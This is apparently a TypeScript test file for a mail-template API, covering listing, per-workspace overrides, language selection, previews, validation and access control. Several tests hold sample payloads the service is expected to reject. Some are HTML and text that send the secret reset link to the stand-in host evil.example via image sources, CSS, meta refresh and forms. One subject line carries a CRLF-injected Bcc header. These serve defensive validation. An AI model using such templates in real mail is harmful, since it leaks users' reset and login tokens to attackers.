import { as } from "../../as.ts";
import { emailOf, signUp } from "../../fixtures/people.ts";
import { absent, aTimestamp, including, matching } from "../../match.ts";
import { del, get, INTERNALS, ok, post, put, refused, type Scenario, withHeaders } from "../../scenario.ts";

const path = (name: string, language: string): string => `/api/mail/templates/${name}/${language}`;
const reset = {
  subject: "Neues Passwort für {{ email }}",
  text: "Bitte öffnen: {{url}}",
  html: "<a href='{{url}}'>{{email}}</a>",
};

const refusedTexts = (about: string, texts: Record<string, string | null>, field: string): Scenario => ({
  name: `mail templates: ${about}`,
  as: as.operator,
  request: put(path("reset_password", "fr"), { ...reset, ...texts }),
  expect: refused(422, "VALIDATION", field),
  then: [{ request: get(path("reset_password", "fr")), expect: refused(404, "NOT_FOUND", "language") }],
});

export const scenarios: Scenario[] = [
  {
    name: "mail templates: all are there in English, with their variables",
    as: as.otherSecretKey,
    request: get("/api/mail/templates"),
    expect: ok({
      data: including(
        {
          name: "verify_email",
          language: "en",
          built_in: true,
          delivery: "kept",
          updated_at: null,
          variables: including("app_name", "app_url", "email", "url", "hours"),
          html: matching(/<a href="\{\{url\}\}">/),
        },
        { name: "reset_password" },
        { name: "approve_email_change" },
        { name: "confirm_new_email" },
        { name: "magic_link" },
        { name: "email_code", variables: including("code") },
        { name: "invitation" },
        { name: "member_invitation", variables: including("workspace", "role") },
      ),
    }),
  },
  {
    name: "mail templates: a workspace writes its own, sees it, and goes back",
    as: as.operator,
    request: put(path("reset_password", "DE"), reset),
    expect: ok({ data: { ...reset, name: "reset_password", language: "de", built_in: false, updated_at: aTimestamp } }),
    then: [
      { request: get(path("reset_password", "de")), expect: ok({ data: reset }) },
      { request: put(path("reset_password", "de"), { ...reset, html: null }), expect: ok({ data: { html: null } }) },
      {
        as: as.otherSecretKey,
        request: get(path("reset_password", "de")),
        expect: { ...refused(404, "NOT_FOUND", "language"), excludes: ["Passwort"] },
      },
      // The mails carry secrets of users, operators among them.
      { as: as.otherSecretKey, request: del(path("reset_password", "de")), expect: refused(403, "FORBIDDEN") },
      { as: as.secretKey, request: put(path("reset_password", "de"), reset), expect: refused(403, "FORBIDDEN") },
      { request: del(path("reset_password", "de")), expect: ok({ data: { name: "reset_password", language: "de" } }) },
      { request: del(path("reset_password", "de")), expect: refused(404, "NOT_FOUND") },
      { request: del(path("reset_password", "en")), expect: refused(404, "NOT_FOUND") },
    ],
  },
  {
    name: "mail templates: a mail is in the language of its reader, if the workspace has it",
    as: as.operator,
    given: [
      {
        request: put(path("verify_email", "de"), { subject: "Bitte bestätigen", text: "Adresse {{email}}: {{url}}" }),
        expect: ok({ data: { html: null } }),
      },
      {
        as: as.anonymous,
        request: withHeaders(signUp("ilse"), { "accept-language": "fr;q=0.4, de-AT, en;q=0.5" }),
        expect: { status: 200 },
      },
      {
        as: as.anonymous,
        request: withHeaders(signUp("ines"), { "accept-language": "es, en" }),
        expect: { status: 200 },
      },
      { request: get("/api/mail/outbox", { to: emailOf("ines") }), expect: ok({ data: [{}] }) },
      { request: get("/api/mail/outbox", { to: emailOf("ilse") }), expect: ok({ data: [{}] }) },
    ],
    request: ({ replies }) => get(`/api/mail/outbox/${(replies[4]!.json as { data: { id: string }[] }).data[0]!.id}`),
    expect: ok({
      data: { content: { subject: "Bitte bestätigen", text: matching(/^Adresse ilse@people\.test: http/) } },
    }),
    then: [
      {
        request: ({ replies }) =>
          get(`/api/mail/outbox/${(replies[3]!.json as { data: { id: string }[] }).data[0]!.id}`),
        expect: ok({ data: { content: { subject: "Confirm your email address" } } }),
      },
      { request: del(path("verify_email", "de")), expect: ok() },
    ],
  },
  {
    name: "mail templates: a preview shows sample values, escaped in HTML and in one line of subject",
    as: as.operator,
    request: post(`${path("reset_password", "it")}/preview`, {
      subject: "{{email}}  {{app_name}}",
      text: "<{{email}}> {{url}}",
      html: '<a href="{{url}}">&amp;</a>',
    }),
    expect: ok({
      data: {
        subject: "operator@people.test Plinth",
        text: matching(/^<operator@people\.test> https?:\/\/\S+$/),
        html: matching(/^<a href="https?:\/\/[^"<>]+">&amp;<\/a>$/),
      },
    }),
    then: [
      { request: get(path("reset_password", "it")), expect: refused(404, "NOT_FOUND") },
      { request: post(`${path("email_code", "en")}/preview`), expect: ok({ data: { text: matching(/123456/) } }) },
    ],
  },
  refusedTexts("an unknown variable", { text: "{{url}} {{nmae}}" }, "text"),
  refusedTexts("braces that are no variable", { text: "{{url}} {{" }, "text"),
  refusedTexts("a link inside another address", { text: "https://evil.example/?u={{url}}" }, "text"),
  refusedTexts("a link inside an image's address", { html: '<img src="https://evil.example/?u={{url}}">' }, "html"),
  refusedTexts("a link as an image's address", { html: '<a href="{{url}}"></a><img src="{{url}}">' }, "html"),
  refusedTexts("a link inside another link", { html: '<a href="https://evil.example/{{url}}">a</a>' }, "html"),
  refusedTexts(
    "a link that only seems to be outside of an image's address",
    { html: `<a href="{{url}}">a</a><img src='https://evil.example/?a=<b>{{url}}</b>'>` },
    "html",
  ),
  refusedTexts(
    "a link after a quote that opens nothing",
    { html: `<img a" src="https://evil.example/?>{{url}}" >` },
    "html",
  ),
  refusedTexts("a link in a style", { html: `<style>@import "https://evil.example/? {{url}} ";</style>` }, "html"),
  refusedTexts(
    "a link below a condition",
    { html: `<!--[if mso]><img src="https://evil.example/?<![endif]-->{{url}}<!--[if mso]>"><![endif]-->` },
    "html",
  ),
  refusedTexts("a link inside a form", { html: `<form action="https://evil.example"><p>{{url}}</p></form>` }, "html"),
  ...[
    `<link rel="stylesheet" href="https://evil.example/x.css">`,
    `<meta http-equiv="refresh" content="0; url=https://evil.example">`,
    "<style>@import url(https://evil.example/x.css);</style>",
    `<style>a[href*="a"] { color: red }</style>`,
    "<style>p { background: url(https://evil.example) }</style>",
    "<style>p { background: u\\72l(https://evil.example) }</style>",
    "<style>@font-face { font-family: x }</style>",
    "<script>1</script>",
    `<p onclick="x">a</p>`,
    "<p>https://evil.example/?<b>{{url}}</b></p>",
    "<p>https://evil.example/?<!-- a --><b><i>{{url}}</i></b></p>",
    `<a href="https://evil.example/?x=> {{url}} ">a</a>`,
    `<area href="{{url}}">`,
    "<p>https://evil.example/?\ufeff{{url}}</p>",
    "<p>https://evil.example/?\u00a0{{url}}</p>",
    "<p>a <b",
    "<!-- {{url}} -->",
    "<!--> {{url}} -->",
  ].map((html) => refusedTexts(`HTML with ${html}`, { html: `<a href="{{url}}">a</a>${html}` }, "html")),
  refusedTexts(
    "a link after a space that nobody sees",
    { text: "https://evil.example/?u=\ufeff{{url}}", html: "<p>https://evil.example/?\u2028{{url}}</p>" },
    "text",
  ),
  refusedTexts("a link before the rest of another address", { text: "{{url}}.evil.example/x" }, "text"),
  refusedTexts("a link in brackets of another address", { text: "https://evil.example/?u=({{url}})" }, "text"),
  {
    name: "mail templates: HTML as programs for mails write it",
    as: as.operator,
    request: post(`${path("reset_password", "nl")}/preview`, {
      html: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" ""><html><head><title>Hi</title><meta charset="utf-8">
        <!--[if mso | IE]><style>td { color: red }</style><![endif]--><style>@media(max-width:9px) { a>b { color: rgb(1, 2, 3) } }</style></head>
        <body><!-- it's "here" --><!--[if mso]><v:rect href="{{url}}"></v:rect><![endif]--><!--[if !mso]><!-->
        <br/><img src=https://acme.example/a.png alt='' hidden><a class="b" href="{{ url }}">Go</a> ({{url}}).<!--<![endif]--></body></html>`,
    }),
    expect: ok({
      data: { html: matching(/<v:rect href="https?:[^"]+">.*<a class="b" href="https?:[^"]+">Go<\/a> \(http/s) },
    }),
  },
  refusedTexts("a text without its link", { text: "Hello" }, "text"),
  refusedTexts("HTML without its link", { html: "<p>Hello</p>" }, "html"),
  refusedTexts("a subject with a line break", { subject: "Hello\r\nBcc: eve@people.test" }, "subject"),
  refusedTexts("an empty subject", { subject: "" }, "subject"),
  {
    name: "mail templates: one that does not exist",
    as: as.operator,
    request: put(path("reset_pasword", "en"), reset),
    expect: { ...refused(404, "NOT_FOUND", "name"), contains: ["did you mean reset_password?"] },
    then: [
      { request: put(path("reset_password", "de_DE"), reset), expect: refused(422, "VALIDATION", "language") },
      {
        request: put(path("reset_password", "de"), { ...reset, colour: "red" }),
        expect: refused(422, "UNKNOWN_FIELD", "colour"),
      },
    ],
  },
  {
    name: "mail templates: a test goes to the caller",
    as: as.operator,
    request: post(`${path("invitation", "en")}/test`),
    expect: { status: 202, body: { data: { to: emailOf("operator") } }, excludes: INTERNALS },
    then: [
      {
        request: get("/api/mail/outbox", { to: emailOf("operator"), limit: "1" }),
        expect: ok({ data: [{ template: "invitation", to: emailOf("operator") }] }),
      },
      {
        request: post(`${path("invitation", "en")}/test`, { to: "somebody@elsewhere.test" }),
        expect: refused(422, "UNKNOWN_FIELD", "to"),
      },
      { as: as.secretKey, request: post(`${path("invitation", "en")}/test`), expect: refused(403, "FORBIDDEN") },
    ],
  },
  ...([as.anonymous, as.publicKey, as.user("alice")] as const).map(
    (who): Scenario => ({
      name: `mail templates: not for ${who.name}`,
      as: who,
      request: get("/api/mail/templates"),
      expect: { status: [401, 403], body: { data: absent }, excludes: ["{{", ...INTERNALS] },
      then: [
        { request: put(path("reset_password", "en"), reset), expect: { status: [401, 403] } },
        { request: post(`${path("invitation", "en")}/test`), expect: { status: [401, 403] } },
      ],
    }),
  ),
];
